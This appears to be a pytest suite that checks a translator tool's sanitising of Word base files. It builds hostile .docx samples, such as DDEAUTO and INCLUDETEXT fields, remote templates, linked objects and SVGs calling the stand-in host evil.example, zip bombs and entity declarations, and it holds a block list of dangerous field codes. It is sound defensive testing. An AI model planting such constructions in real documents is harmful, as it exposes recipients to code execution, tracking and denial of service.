"""A base from elsewhere: what fetches, runs, asks or tells of others in it does not reach a brief."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from contextlib import suppress
from functools import cache
from pathlib import Path
from typing import Any

import bases
import pytest
from briefings import full
from documents import W, faults, made, written
from lxml import etree
from newsroom import articles
from typer.testing import CliRunner

from translator.cli import app as cli
from translator.engines.fake import FakeEngine
from translator.errors import UnusableError
from translator.publish.brief_toml import HouseStyleError, load_house_style
from translator.publish.docx.template_content import clean
from translator.publish.docx.template_fields import ALLOWED
from translator.publish.docx.template_file import vetted
from translator.publish.house_style import HouseStyle
from translator.storage.zip_package import MAX_MEMBERS

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "evil.example"
"""Stands in everything that must not reach a brief: addresses, arguments, private words."""
RESULT = "shown last"

FORBIDDEN = (
    *("DDE", "DDEAUTO", "INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "IMPORT", "LINK", "EMBED", "DATABASE", "RD"),
    *("FILLIN", "ASK", "SET", "IF", "QUOTE", "=", "COMPARE", "NEXT", "NEXTIF", "SKIPIF", "MERGEFIELD", "MERGEREC"),
    *("MACROBUTTON", "GOTOBUTTON", "PRINT", "HYPERLINK", "AUTOTEXT", "AUTOTEXTLIST", "GLOSSARY", "ADDIN"),
    *("CONTROL", "HTMLCONTROL", "HTMLActiveX", "SHAPE", "DOCPROPERTY", "DOCVARIABLE", "INFO", "FILENAME", "TEMPLATE"),
    *("USERNAME", "USERADDRESS", "USERINITIALS", "LASTSAVEDBY", "REF", "BIDIOUTLINE", "dde", "DdeAuto", "PAGED"),
)


def run(inner: str) -> str:
    """Return a run."""
    return f"<w:r>{inner}</w:r>"


def mark(kind: str) -> str:
    """Return the begin, separator or end of a field."""
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def code(text: str) -> str:
    """Return a run of a field's code."""
    return run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def complex_field(inner: str, result: str = RESULT) -> str:
    """Return a field of several runs."""
    return f"{mark('begin')}{inner}{mark('separate')}{run(f'<w:t>{result}</w:t>')}{mark('end')}"


def branches(choice: str, fallback: str) -> str:
    """Return content that depends on what the program knows."""
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    return (
        f'<mc:AlternateContent xmlns:mc="{mc}"><mc:Choice Requires="wps">{choice}</mc:Choice>'
        f"<mc:Fallback>{fallback}</mc:Fallback></mc:AlternateContent>"
    )


def _text_box(inner: str) -> str:
    return run(
        f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p>{inner}</w:p>'
        "</w:txbxContent></v:textbox></v:shape></w:pict>"
    )


SHAPES = {
    "simple": lambda f: f'<w:fldSimple w:instr=" {f} "><w:r><w:t>{RESULT}</w:t></w:r></w:fldSimple>',
    "complex": lambda f: complex_field(code(f" {f} ")),
    "letters": lambda f: complex_field("".join(map(code, re.findall(r"&\w+;|.", f)))),
    "one run": lambda f: run(
        f'<w:fldChar w:fldCharType="begin"/><w:instrText>{f}</w:instrText><w:fldChar w:fldCharType="separate"/>'
        f'<w:t>{RESULT}</w:t><w:fldChar w:fldCharType="end"/>'
    ),
    "text for code": lambda f: f"{mark('begin')}{run(f'<w:t>{f}</w:t>')}{mark('separate')}{mark('end')}",
    "in the code of another": lambda f: complex_field(code("PAGE ") + complex_field(code(f))),
    "quoted by another": lambda f: complex_field(code("QUOTE ") + complex_field(code(f)) + code(" x")),
    "in what another shows": lambda f: (
        f"{mark('begin')}{code('PAGE')}{mark('separate')}{complex_field(code(f))}{mark('end')}"
    ),
    "simple in the code": lambda f: complex_field(code("PAGE ") + f'<w:fldSimple w:instr="{f}"/>'),
    "inserted": lambda f: f'<w:ins w:id="1" w:author="{EVIL}">{complex_field(code(f))}</w:ins>',
    "deleted": lambda f: complex_field(f'<w:del w:id="1"><w:r><w:delInstrText>{f}</w:delInstrText></w:r></w:del>'),
    "tagged": lambda f: complex_field(f'<w:smartTag w:element="x">{code(f)}</w:smartTag>'),
    "in a box": lambda f: _text_box(complex_field(code(f))),
    "in branches": lambda f: complex_field(branches(code("STYLEREF "), "") + code(f)),
    "begun in branches": lambda f: (
        run(branches('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="begin"/>'))
        + code(f)
        + mark("end")
    ),
    "without an end": lambda f: mark("begin") + code(f),
    "without a beginning": lambda f: code(f) + mark("separate") + mark("end"),
    "over paragraphs": lambda f: f"{mark('begin')}{code('PAGE ')}</w:p><w:p>{code(f)}{mark('separate')}{mark('end')}",
    "linked": lambda f: f'<w:hyperlink w:anchor="x">{complex_field(code(f))}</w:hyperlink>',
    "bound": lambda f: f"<w:sdt><w:sdtContent>{complex_field(code(f))}</w:sdtContent></w:sdt>",
}
HONEST = ("simple", "complex", "letters", "one run", "inserted", "tagged", "in a box", "bound")
MARKUP = {
    "word/header1.xml": (b"</w:p></w:hdr>", "{}</w:p></w:hdr>"),
    "word/footer1.xml": (b"</w:p></w:ftr>", "{}</w:p></w:ftr>"),
    "word/styles.xml": (b"</w:styles>", '<w:style w:type="paragraph" w:styleId="x"><w:p>{}</w:p></w:style></w:styles>'),
    "word/document.xml": (b"<w:sectPr", "<w:p>{}</w:p><w:sectPr"),
}


@cache
def letterhead() -> bytes:
    """Return an honest base, made once."""
    return bases.letterhead()


def put(markup: str, member: str = "word/header1.xml", base: bytes | None = None) -> bytes:
    """Return a base with markup in one of its parts."""
    old, new = MARKUP[member]
    return bases.edited(base or letterhead(), member, old, new.format(markup).encode())


def parts(data: bytes) -> dict[str, bytes]:
    """Return the members of a zip file."""
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return {name: file.read(name) for name in file.namelist()}


KINDS = {
    *("officeDocument", "extended-properties", "core-properties", "styles", "numbering", "settings", "theme"),
    *("fontTable", "footnotes", "endnotes", "header", "footer", "image", "chart", "package"),
}
"""Relationships of a brief. Charts with their workbooks are the brief's own: no base has one that reaches it."""
NAMES = re.compile(
    r"\[Content_Types\]\.xml|(?:word/)?_rels/[\w.]*\.rels|word/theme/theme1\.xml|docProps/(?:app|core)\.xml"
    r"|word/(?:document|styles|numbering|settings|fontTable|footnotes|endnotes|header\d*|footer\d*)\.xml"
    r"|word/media/image\d+\.(?:png|jpeg|gif|bmp|tiff|emf|wmf)|word/charts?/.+|word/embeddings/.+"
)
OURS = ("REF", "PAGEREF", "TOC")


def codes(root: Any) -> list[str]:
    """Return the codes of the fields of a part, each as a program could read it: all between begin and result."""
    found = [element.get(f"{W}instr") for element in root.iter(f"{W}fldSimple")]
    fields: list[str | None] = []  # None: what follows is its result
    for element in root.iter(f"{W}fldChar", f"{W}instrText", f"{W}delInstrText", f"{W}t"):
        kind = element.get(f"{W}fldCharType")
        if kind == "begin":
            fields.append("")
        elif kind and fields:
            text, fields[-1] = fields[-1], None
            found += [text] if text is not None else []
            if kind == "end":
                fields.pop()
        elif any(field is not None for field in fields):
            fields = [None if field is None else field + (element.text or "") for field in fields]
        elif element.tag != f"{W}t":
            found.append(element.text or "")
    return [*found, *(field for field in fields if field is not None)]


def assert_clean(data: bytes) -> None:
    """Nothing of the kind is in any part of the file: names, types, relationships, fields, words."""
    for name, content in parts(data).items():
        assert NAMES.fullmatch(name), name
        assert EVIL.encode() not in content, name
        assert not re.search(rb"macroEnabled|vbaProject|oleObject|activeX|customUI|attachedTemplate", content), name
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        for relation in root.iter("{*}Relationship"):
            assert relation.get("TargetMode") is None, name
            assert relation.get("Type").rpartition("/")[2] in KINDS, name
        for field in codes(root):
            assert field.split()[0] in (*ALLOWED, *OURS), f"{name}: {field}"
        texts = "".join(element.text or "" for element in root.iter(f"{W}t", f"{W}instrText"))
        assert EVIL not in texts, name


# ---------------------------------------------------------------- fields


@pytest.mark.parametrize("shape", SHAPES)
def test_fields_do_not_stay_in_a_part(shape: str) -> None:
    """However it is written, no field but those allowed stands in a part afterwards, nor its code as text."""
    for name in FORBIDDEN:
        root = etree.fromstring(f'<w:hdr xmlns:w="{W[1:-1]}"><w:p>{SHAPES[shape](f"{name} {EVIL}")}</w:p></w:hdr>')
        clean(root, (), lambda _: None)
        assert [found for found in codes(root) if found.split()[0] not in ALLOWED] == []
        assert EVIL not in "".join(root.itertext())


@pytest.mark.parametrize("shape", SHAPES)
def test_fields_do_not_reach_a_brief(shape: str) -> None:
    """In no part of what a brief takes from its base stands such a field."""
    base = letterhead()
    for member in MARKUP:
        base = put(SHAPES[shape](f"DDEAUTO {EVIL} x"), member, base)
    assert_clean(vetted(base).data)


@pytest.mark.parametrize("shape", HONEST)
@pytest.mark.parametrize("name", ["INCLUDETEXT", "HYPERLINK", "FILENAME"])
def test_what_a_field_showed_last_stays(shape: str, name: str) -> None:
    """A field that goes leaves its last result as text, and the user is told which field went."""
    base = vetted(put(SHAPES[shape](f"{name} {EVIL}")))
    header = next(content for part, content in parts(base.data).items() if "header" in part and "rels" not in part)
    assert RESULT.encode() in header
    assert base.left_out == (f"the field {name}",)


@pytest.mark.parametrize("shape", HONEST)
@pytest.mark.parametrize(
    "field",
    [
        *("PAGE", "page", "NUMPAGES \\* MERGEFORMAT", "SECTIONPAGES", 'STYLEREF "Heading 1" \\n', "TITLE", "SUBJECT"),
        *('DATE \\@ "d MMMM yyyy"', "AUTHOR", "CREATEDATE", "SAVEDATE"),
    ],
)
def test_fields_of_running_lines_stay(shape: str, field: str) -> None:
    """Pages, the brief's own words and the day stay fields, whichever way they are written.

    But for pages they show nothing until they are worked out: what they showed last are another document's words.
    """
    base = vetted(put(SHAPES[shape](field.replace('"', "&quot;"))))
    header = next(content for part, content in parts(base.data).items() if "header" in part and "rels" not in part)
    assert [found.strip() for found in codes(etree.fromstring(header))] == [field]
    is_of_pages = "PAGE" in field.upper()
    assert (RESULT.encode() in header, b'w:dirty="true"' not in header) == (is_of_pages, is_of_pages)
    assert base.left_out == ()


def test_fields_in_notes_comments_and_building_blocks_do_not_reach_a_brief() -> None:
    """Notes lose all but their separators; comments and building blocks are not taken at all."""
    paragraph = f"<w:p>{complex_field(code(f'INCLUDETEXT {EVIL}'))}</w:p>"
    for kind, root, name in (
        ("footnotes", "footnotes", "footnote"),
        ("endnotes", "endnotes", "endnote"),
        ("glossaryDocument", "glossaryDocument", "docPart"),
        ("comments", "comments", "comment"),
    ):
        separator = f'<w:{name} w:id="0" w:type="separator">{paragraph}</w:{name}>'
        xml = f'<w:{root} xmlns:w="{W[1:-1]}">{separator}<w:{name} w:id="1">{paragraph}</w:{name}></w:{root}>'
        base = bases.related(bases.bare(), "word/document.xml", kind, f"x/{kind}.xml")
        assert_clean(written(full(), HouseStyle(base=bases.with_members(base, {f"word/x/{kind}.xml": xml.encode()}))))


# ---------------------------------------------------------------- parts, links and objects

VML, OFFICE = "urn:schemas-microsoft-com:vml", "urn:schemas-microsoft-com:office:office"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PICTURE = "http://schemas.openxmlformats.org/drawingml/2006/picture"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40


def _drawing(content: str, uri: str = PICTURE, name: str = "") -> str:
    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    return run(
        f'<w:drawing xmlns:r="{R}"><wp:inline xmlns:wp="{wp}"><wp:extent cx="914400" cy="914400"/>'
        f'<wp:docPr id="9" name="x">{name}</wp:docPr><a:graphic xmlns:a="{A}"><a:graphicData uri="{uri}">{content}'
        "</a:graphicData></a:graphic></wp:inline></w:drawing>"
    )


def picture(blip: str, name: str = "") -> str:
    """Return a picture whose source is `blip`."""
    return _drawing(
        f'<pic:pic xmlns:pic="{PICTURE}"><pic:nvPicPr><pic:cNvPr id="0" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill>{blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>',
        name=name,
    )


def _in_header(markup: str, kind: str, target: str = f"http://{EVIL}/x", **members: bytes) -> bytes:
    """Return a base whose header has markup that refers, as rIdX, to `target`: outside, unless it is a member."""
    inside = {f"word/{name.replace('__', '/').replace('_', '.')}": data for name, data in members.items()}
    base = bases.with_members(put(markup), inside)
    return bases.related(base, "word/header1.xml", kind, target, outside=not members)


def _from(source: str, kind: str, target: str, outside: bool = True, **members: bytes) -> bytes:
    inside = {name.replace("__", "/").replace("_", "."): data for name, data in members.items()}
    return bases.related(bases.with_members(letterhead(), inside), source, kind, target, outside=outside)


def _settings(markup: str) -> bytes:
    return bases.edited(letterhead(), "word/settings.xml", b"</w:settings>", f"{markup}</w:settings>".encode())


def _template() -> bytes:
    base = _settings(f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdX"/>')
    return bases.related(base, "word/settings.xml", "attachedTemplate", f"http://{EVIL}/x.dotm", outside=True)


def _font() -> bytes:
    font = f'<w:font w:name="x"><w:embedRegular xmlns:r="{R}" r:id="rIdX"/></w:font></w:fonts>'
    base = bases.edited(letterhead(), "word/fontTable.xml", b"</w:fonts>", font.encode())
    base = bases.with_members(base, {"word/fonts/font1.odttf": EVIL.encode()})
    return bases.related(base, "word/fontTable.xml", "font", "fonts/font1.odttf")


def _printer() -> bytes:
    mark = f'<w:printerSettings xmlns:r="{R}" r:id="rIdX"/></w:sectPr>'
    base = bases.edited(letterhead(), "word/document.xml", b"</w:sectPr>", mark.encode())
    base = bases.with_members(base, {"word/printer.bin": EVIL.encode()})
    return bases.related(base, "word/document.xml", "printerSettings", "printer.bin")


def _background() -> bytes:
    fill = f'<v:background xmlns:v="{VML}"><v:fill r:id="rIdX" src="file://{EVIL}"/></v:background>'
    markup = f'<w:background w:color="FFFFFF" xmlns:r="{R}">{fill}</w:background><w:body>'
    base = bases.edited(letterhead(), "word/document.xml", b"<w:body>", markup.encode())
    return bases.related(base, "word/document.xml", "image", f"http://{EVIL}/x.png", outside=True)


_OLE = (
    f'<w:object xmlns:r="{R}"><v:shape xmlns:v="{VML}" id="s"/>'
    f'<o:OLEObject xmlns:o="{OFFICE}" Type="Link" ProgID="Excel.Sheet" ShapeID="s" r:id="rIdX"/></w:object>'
)
_BLIP = '<a:blip xmlns:a="' + A + '" xmlns:r="' + R + '" {}/>'
_CLICK = f'<a:hlinkClick xmlns:a="{A}" r:id="rIdX"/>'
_MS = "http://schemas.microsoft.com/office/2006/relationships"
_BOUND = (
    f'<w:sdt><w:sdtPr><w:placeholder><w:docPart w:val="{EVIL}"/></w:placeholder>'
    f'<w:dataBinding w:xpath="/{EVIL}" w:storeItemID="{{1}}"/></w:sdtPr><w:sdtContent><w:r><w:t>x</w:t></w:r>'
    "</w:sdtContent></w:sdt>"
)
ATTACKS: dict[str, Callable[[], bytes]] = {
    "linked picture": lambda: _in_header(picture(_BLIP.format('r:link="rIdX"')), "image"),
    "picture from outside": lambda: _in_header(picture(_BLIP.format('r:embed="rIdX"')), "image"),
    "picture with a link": lambda: _in_header(
        picture(_BLIP.format('r:embed="rIdX"'), _CLICK), "hyperlink", f"file://{EVIL}/x"
    ),
    "picture that is none": lambda: _in_header(
        picture(_BLIP.format('r:embed="rIdX"')), "image", "a.png", a_png=f"MZ {EVIL}".encode()
    ),
    "drawing that can run": lambda: _in_header(
        picture(_BLIP.format('r:embed="rIdX"')),
        "image",
        "a.svg",
        a_svg=f"<svg><image href='http://{EVIL}'/></svg>".encode(),
    ),
    "old picture by address": lambda: put(
        run(
            f'<w:pict><v:shape xmlns:v="{VML}" href="http://{EVIL}"><v:imagedata src="file://{EVIL}/x" '
            f'xmlns:o="{OFFICE}" o:href="http://{EVIL}" o:althref="http://{EVIL}"/></v:shape></w:pict>'
        )
    ),
    "old picture by link": lambda: _in_header(
        run(f'<w:pict xmlns:r="{R}"><v:shape xmlns:v="{VML}"><v:imagedata r:href="rIdX"/></v:shape></w:pict>'), "image"
    ),
    "link to a share": lambda: _in_header(
        f'<w:hyperlink xmlns:r="{R}" r:id="rIdX"><w:r><w:t>x</w:t></w:r></w:hyperlink>', "hyperlink", f"\\\\{EVIL}\\x"
    ),
    "linked object": lambda: _in_header(run(_OLE), "oleObject", f"file:///{EVIL}.xlsx"),
    "embedded object": lambda: _in_header(run(_OLE), "oleObject", "embeddings/a.bin", embeddings__a_bin=EVIL.encode()),
    "control": lambda: _in_header(
        run(f'<w:control xmlns:r="{R}" w:name="x" r:id="rIdX"/>'),
        "control",
        "activeX/a.xml",
        activeX__a_xml=EVIL.encode(),
    ),
    "chart": lambda: _in_header(
        _drawing(f'<c:chart xmlns:c="{A.replace("main", "chart")}" r:id="rIdX"/>', A.replace("main", "chart")),
        "chart",
        "charts/a.xml",
        charts__a_xml=f'<x a="{EVIL}"/>'.encode(),
    ),
    "other text": lambda: _in_header(
        f'</w:p><w:altChunk xmlns:r="{R}" r:id="rIdX"/><w:p>', "aFChunk", "a.html", a_html=EVIL.encode()
    ),
    "subdocument": lambda: _in_header(f'<w:subDoc xmlns:r="{R}" r:id="rIdX"/>', "subDocument", f"file://{EVIL}.docx"),
    "attached template": lambda: _template(),
    "embedded font": lambda: _font(),
    "printer": lambda: _printer(),
    "background": lambda: _background(),
    "mail merge": lambda: _settings(f'<w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge>'),
    "variables": lambda: _settings(f'<w:docVars><w:docVar w:name="x" w:val="{EVIL}"/></w:docVars>'),
    "transformation": lambda: _settings(
        f'<w:saveThroughXslt w:solutionID="{EVIL}"/><w:attachedSchema w:val="{EVIL}"/>'
    ),
    "form with macros": lambda: put(
        run(f'<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="{EVIL}"/></w:ffData></w:fldChar>')
        + code("PAGE")
        + mark("separate")
        + mark("end")
    ),
    "bound control": lambda: put(_BOUND),
    "changes": lambda: put(
        f'<w:del w:id="1" w:author="{EVIL}"><w:r><w:delText>{EVIL}</w:delText></w:r></w:del>'
        f'<w:r><w:rPr><w:rPrChange w:id="2" w:author="{EVIL}"><w:rPr/></w:rPrChange></w:rPr></w:r>'
    ),
    "custom markup": lambda: put(f'<w:customXml w:uri="{EVIL}" w:element="x"><w:r><w:t>x</w:t></w:r></w:customXml>'),
    "frames": lambda: bases.edited(
        letterhead(),
        "word/webSettings.xml",
        b"</w:webSettings>",
        f'<w:frameset><w:frame><w:name w:val="{EVIL}"/></w:frame></w:frameset></w:webSettings>'.encode(),
    ),
    "ribbon": lambda: _from("", f"{_MS}/ui/extensibility", "customUI/a.xml", False, customUI__a_xml=EVIL.encode()),
    "keys": lambda: _from(
        "word/document.xml", f"{_MS}/keyMapCustomizations", "k.xml", False, word__k_xml=EVIL.encode()
    ),
    "bars": lambda: _from("word/document.xml", f"{_MS}/attachedToolbars", "t.bin", False, word__t_bin=EVIL.encode()),
    "custom XML": lambda: _from(
        "word/document.xml", "customXml", "../customXml/b.xml", False, customXml__b_xml=EVIL.encode()
    ),
    "properties": lambda: _from(
        "", "custom-properties", "docProps/custom.xml", False, docProps__custom_xml=EVIL.encode()
    ),
    "thumbnail": lambda: _from(
        "", f"{R}/metadata/thumbnail", "docProps/t.png", False, docProps__t_png=PNG + EVIL.encode()
    ),
    "signature": lambda: _from(
        "", f"{R}/digital-signature/origin", "s/origin.sigs", False, s__origin_sigs=EVIL.encode()
    ),
    "people": lambda: _from("word/document.xml", f"{_MS}/people", "people.xml", False, word__people_xml=EVIL.encode()),
    "any other": lambda: _from(
        "word/document.xml", f"http://{EVIL}/new", "new.bin", False, word__new_bin=EVIL.encode()
    ),
    "parts of no one": lambda: bases.with_members(letterhead(), {f"word/{EVIL}.bin": EVIL.encode()}),
    "comment": lambda: bases.edited(
        letterhead(), "word/header1.xml", b"<w:p>", f"<!-- {EVIL} --><?x {EVIL}?><w:p>".encode()
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_fetches_or_runs_reaches_a_brief(attack: str, tmp_path: Path) -> None:
    """A brief on such a base has none of it in any part, and what it takes from the base is without faults."""
    house = HouseStyle(base=ATTACKS[attack]())
    assert_clean(written(full(), house))
    assert faults(vetted(house.base).data, tmp_path) == []
    assert made(full(), house).sections[0].header.paragraphs[0].text.startswith(bases.LETTERHEAD)


@pytest.mark.parametrize(
    ("attack", "told"),
    {
        "linked picture": "links to what is outside the file",
        "old picture by address": "links to what is outside the file",
        "linked object": "links to what is outside the file",
        "embedded object": "embedded objects",
        "control": "embedded objects",
        "chart": "charts, diagrams or other objects",
        "drawing that can run": "pictures of unknown kinds (SVG, say)",
        "other text": "text from other files",
        "attached template": "the template that it is attached to",
        "embedded font": "embedded fonts",
        "ribbon": "changes to Word's ribbon",
        "keys": "changes to Word's keys",
    }.items(),
)
def test_what_would_be_missed_is_told(attack: str, told: str) -> None:
    """What would have been seen or would have acted is named to the user."""
    assert told in vetted(ATTACKS[attack]()).left_out


@pytest.mark.parametrize("attack", ["custom XML", "properties", "thumbnail", "people", "printer", "comment"])
def test_what_has_no_look_goes_without_a_word(attack: str) -> None:
    """Nearly every Word file has such parts: a note about them would be one that nobody reads."""
    assert vetted(ATTACKS[attack]()).left_out == ()


def test_run_tells_what_its_base_loses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run says on standard error, once, what its briefs leave out of the base."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("translator.cli.translating.load_engine", lambda name, offline, watch: FakeEngine())
    articles(tmp_path / "articles")
    (tmp_path / "ours.docx").write_bytes(put(SHAPES["complex"](f"DDEAUTO {EVIL}")))
    (tmp_path / "brief.toml").write_text('base = "ours.docx"')
    result = CliRunner().invoke(cli.app, ["run", "--combined"])
    assert result.exit_code == 0, result.output
    assert result.stderr.count("note: of the base in brief.toml, briefs leave out: the field DDEAUTO.") == 1
    briefs = list((tmp_path / "output").glob("*.docx"))
    assert len(briefs) == 3
    for brief in briefs:
        assert_clean(brief.read_bytes())


def _refused(folder: Path, data: bytes) -> str:
    (folder / "ours.docx").write_bytes(data)
    (folder / "brief.toml").write_text('base = "ours.docx"')
    with pytest.raises(HouseStyleError) as caught:
        load_house_style(folder / "brief.toml")
    assert "ours.docx" in caught.value.lines[0]
    return " ".join(caught.value.lines)


def test_macros_are_refused(tmp_path: Path) -> None:
    """A file with macros is no base, whatever it says that it is."""
    for kind in ("macroEnabled", "macroEnabledTemplate"):
        assert "it holds macros" in _refused(tmp_path, bases.with_content_type(letterhead(), kind))
    project = _from("word/document.xml", f"{_MS}/vbaProject", "vbaProject.bin", False, word__vbaProject_bin=b"x")
    assert "it holds macros" in _refused(tmp_path, project)


def test_strict_dialect_is_refused(tmp_path: Path) -> None:
    """A file whose elements have the names of the strict dialect is refused with the way out."""
    markup = '<x:instrText xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main">DDE</x:instrText>'
    assert "Strict" in _refused(tmp_path, put(run(markup)))


# ---------------------------------------------------------------- sizes


def _large(member: str, size: int) -> bytes:
    """Return a base with a member of so many zeros."""
    buffer = io.BytesIO(letterhead())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as file,
        file.open(member, "w", force_zip64=True) as stream,
    ):
        for _ in range(size >> 20):
            stream.write(bytes(1 << 20))
    return buffer.getvalue()


def test_base_that_unpacks_to_too_much_is_refused(tmp_path: Path) -> None:
    """A file that says that it unpacks to too much is refused unopened, though the part is one that nobody needs."""
    data = _large("word/media/x.bin", 200 << 20)
    assert len(data) < 1 << 20
    assert "unpacks to far more" in _refused(tmp_path, data)


def test_base_that_lies_about_its_size_is_refused(tmp_path: Path) -> None:
    """A part that says it is small is not unpacked beyond what it says, nor one beyond its ratio."""
    data = bases.with_members(letterhead(), {"word/header1.xml": b"<x>" + b" " * (40 << 20)})
    assert "unpacks to far more" in _refused(tmp_path, data)
    lying = data.replace(struct.pack("<I", 3 + (40 << 20)), struct.pack("<I", 100))
    assert lying != data
    assert "damaged" in _refused(tmp_path, lying)


def test_base_of_very_many_members_is_refused(tmp_path: Path) -> None:
    """A file of more members than any Word file has is refused before they are listed."""
    data = bases.with_members(letterhead(), {f"x/{number}": b"" for number in range(MAX_MEMBERS)})
    assert "unpacks to far more" in _refused(tmp_path, data)


def test_entities_in_a_base_are_refused(tmp_path: Path) -> None:
    """A part with a document type is not read."""
    data = bases.edited(letterhead(), "word/header1.xml", b"<w:hdr", b'<!DOCTYPE x [<!ENTITY y "z">]><w:hdr')
    assert "document type" in _refused(tmp_path, data)


def test_damaged_bases_are_refused_or_used(tmp_path: Path) -> None:
    """Wherever a base is cut off or a byte of it is wrong, it is taken or refused, and never a surprise."""
    data = bases.bare()
    broken = [data[:end] for end in range(0, len(data), 2999)]
    broken += [data[:at] + bytes([data[at] ^ 0x41]) + data[at + 1 :] for at in range(0, len(data), 997)]
    for wrong in broken:
        with suppress(UnusableError):
            assert_clean(vetted(wrong).data)


# ---------------------------------------------------------------- an honest base


def test_masthead_of_an_honest_base_is_whole(tmp_path: Path) -> None:
    """Logo, text with a link, text box, page numbers, running headline and the day are all there afterwards."""
    markup = (
        picture(_BLIP.format('r:embed="rIdX"'))
        + '<w:hyperlink w:anchor="x"><w:r><w:t>harbour.example</w:t></w:r></w:hyperlink>'
        + _text_box(run("<w:t>Research desk</w:t>"))
        + "".join(complex_field(code(f" {name} ")) for name in ("PAGE", "NUMPAGES", "STYLEREF Title", "DATE"))
        + '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/title" w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/>'
        + "</w:sdtPr><w:sdtContent><w:r><w:t>Bound</w:t></w:r></w:sdtContent></w:sdt>"
    )
    base = _in_header(markup, "image", "media/logo.png", media__logo_png=PNG)
    assert vetted(base).left_out == ()
    data = written(full(), HouseStyle(base=base))
    assert_clean(data)
    assert faults(data, tmp_path) == []
    (header,) = (content for name, content in parts(data).items() if re.fullmatch(r"word/header\d+\.xml", name))
    root = etree.fromstring(header)
    text = "".join(element.text for element in root.iter(f"{W}t"))
    assert [each in text for each in ("harbour.example", "Research desk", "Bound", RESULT)] == [True] * 4
    assert [found.split()[0] for found in codes(root)] == ["PAGE", "NUMPAGES", "STYLEREF", "DATE"]
    assert len(list(root.iter(f"{W}drawing"))) == len(list(root.iter(f"{W}dataBinding"))) == 1
    assert [content for name, content in parts(data).items() if "media" in name] == [PNG]
